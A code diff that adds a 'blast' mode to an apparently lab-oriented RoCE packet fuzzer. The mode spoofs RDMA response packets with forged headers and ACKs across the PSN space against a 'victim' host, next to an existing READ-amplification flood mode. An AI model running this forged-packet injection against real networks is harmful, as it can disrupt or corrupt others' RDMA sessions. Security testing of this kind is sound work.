@@ -43,6 +43,10 @@ length), SIGSTOPs --stop-pid (the local READ client) so the QP is idle,
 sends --count duplicate READ requests far behind the expected PSN, counts
 the READ response bytes the victim sends for them, and prints the
 amplification (victim bytes per fuzz byte).  SIGCONT at the end.
+
+blast: forged responses of opcode --op (a READ response MIDDLE by
+default) for QPNs --qpn at 16 PSNs spread over the PSN space, from --src,
+for --time seconds: whatever the requester's PSN, some are ahead of it.
 """
 import argparse
 import os
@@ -1016,9 +1020,36 @@ def cmd_readflood(args):
     return 0
 
 
+def cmd_blast(args):
+    """Forged responses of one opcode for QPNs --qpn, at PSNs all round
+    the 24-bit space (k << 20), from --src, until --time is up."""
+    sniff, wire = setup(args)
+    src = socket.inet_aton(args.src)
+    dst = socket.inet_aton(args.victim)
+    op = int(args.op, 0)
+    o = op & 0x1F
+    body = b""
+    if o in (RR_FIRST, RR_LAST, RR_ONLY, ACK, ATOMIC_ACK):
+        body += struct.pack("!I", 0x1F << 24)        # AETH: an ACK
+    if o == ATOMIC_ACK:
+        body += b"\0" * 8
+    qpns = [int(x, 0) for x in args.qpn.split(",")]
+    end = time.time() + args.time
+    n = 0
+    while time.time() < end:
+        for qpn in qpns:
+            for k in range(16):
+                bth = struct.pack("!BBHII", op, 0, 0xFFFF, qpn, k << 20)
+                wire.roce(src, dst, bth, body)
+                n += 1
+    print("pktfuzz: blast: %d packets of opcode 0x%02x for QPNs %s from %s"
+          % (n, op, args.qpn, args.src))
+    return 0
+
+
 def main():
     p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
-    p.add_argument("mode", choices=["fuzz", "inject", "readflood"])
+    p.add_argument("mode", choices=["fuzz", "inject", "readflood", "blast"])
     p.add_argument("--dev", default="eth1")
     p.add_argument("--victim", default="10.76.1.1")
     p.add_argument("--peer", default="10.76.1.2")
@@ -1035,9 +1066,11 @@ def main():
     p.add_argument("--kind", default="uc")
     p.add_argument("--src", default="10.76.1.99")
     p.add_argument("--stop-pid", type=int)
+    p.add_argument("--qpn", default="2,3,4,5")
+    p.add_argument("--op", default="0x0e")
     args = p.parse_args()
     return {"fuzz": cmd_fuzz, "inject": cmd_inject,
-            "readflood": cmd_readflood}[args.mode](args)
+            "readflood": cmd_readflood, "blast": cmd_blast}[args.mode](args)
 
 
 if __name__ == "__main__":
